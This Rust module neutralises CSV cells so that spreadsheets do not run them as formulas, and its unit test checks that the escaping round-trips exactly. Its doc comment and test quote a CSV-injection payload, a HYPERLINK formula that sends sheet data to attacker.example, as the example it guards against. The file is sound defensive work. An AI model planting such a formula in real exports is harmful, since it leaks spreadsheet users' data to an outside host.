//! CSV cells that a spreadsheet will not run as formulas (every export of
//! every domain). It must never write a cell a spreadsheet could run.
//!
//! Spreadsheets (Excel, LibreOffice, Google Sheets) treat a cell that
//! starts with `=`, `+`, `-` or `@` as a formula, and a leading tab or
//! carriage return can hide one; a public signer named
//! `=HYPERLINK("http://attacker.example/?"&A2,"Click")` would otherwise
//! become a live link that leaks the sheet. Every CSV the system writes
//! passes each cell through [`neutralise`] (OWASP's "CSV injection"
//! advice: a leading apostrophe, which spreadsheets show as text).
//!
//! The mapping is reversible so that an export imports back exactly: a
//! cell that already starts with an apostrophe gets one more, and
//! [`restore`] removes exactly one.

use std::borrow::Cow;

/// Whether a spreadsheet could read `cell` as something other than text.
fn needs_quote(cell: &str) -> bool {
    matches!(
        cell.as_bytes().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r' | b'\'')
    )
}

/// The cell as written to a CSV file: prefixed with `'` when it starts with
/// `= + - @`, a tab, a carriage return or an apostrophe.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if needs_quote(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The cell as read back from a CSV file this system wrote: the inverse of
/// [`neutralise`].
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_restored_exactly() {
        for cell in [
            "=HYPERLINK(\"http://attacker.example/?\"&A2,\"Click\")",
            "+7 701 000 00 00",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "'quoted",
            "''=x",
            "'=x",
            "plain",
            "",
            "a=b",
        ] {
            let out = neutralise(cell);
            assert!(!matches!(
                out.as_bytes().first(),
                Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
            ));
            assert_eq!(restore(&out), cell, "{cell:?}");
        }
        assert_eq!(neutralise("plain"), "plain");
        assert_eq!(neutralise("=1+2"), "'=1+2");
    }
}
